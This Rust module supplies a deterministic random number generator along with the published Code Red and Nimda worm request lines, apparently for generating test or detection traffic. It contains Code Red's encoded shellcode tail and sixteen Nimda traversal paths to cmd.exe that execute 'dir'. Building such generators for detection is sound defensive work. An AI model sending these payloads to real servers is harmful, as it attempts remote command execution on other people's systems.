//! The published attack request lines the generators use, and a deterministic RNG.

/// A small deterministic generator (xorshift64*).
pub struct Rng(pub u64);

impl Rng {
    /// The next value.
    pub fn next_u64(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    /// A value in 0..n.
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n
    }

    /// One of `items`.
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

/// The fixed tail of the Code Red request line (facts.md 2).
pub const TAIL: &str = "%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a";

/// The Code Red query: 224 x `N` (v1/v2) or `X` (II), then the tail.
pub fn code_red_query(letter: char) -> String {
    format!("{}{TAIL}", letter.to_string().repeat(224))
}

/// Nimda's request paths, each sent with `?/c+dir` (facts.md 2).
pub const NIMDA: [&str; 16] = [
    "/scripts/root.exe",
    "/MSADC/root.exe",
    "/c/winnt/system32/cmd.exe",
    "/d/winnt/system32/cmd.exe",
    "/scripts/..%255c../winnt/system32/cmd.exe",
    "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe",
    "/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe",
    "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe",
    "/scripts/..%c1%1c../winnt/system32/cmd.exe",
    "/scripts/..%c0%2f../winnt/system32/cmd.exe",
    "/scripts/..%c0%af../winnt/system32/cmd.exe",
    "/scripts/..%c1%9c../winnt/system32/cmd.exe",
    "/scripts/..%%35%63../winnt/system32/cmd.exe",
    "/scripts/..%%35c../winnt/system32/cmd.exe",
    "/scripts/..%25%35%63../winnt/system32/cmd.exe",
    "/scripts/..%252f../winnt/system32/cmd.exe",
];
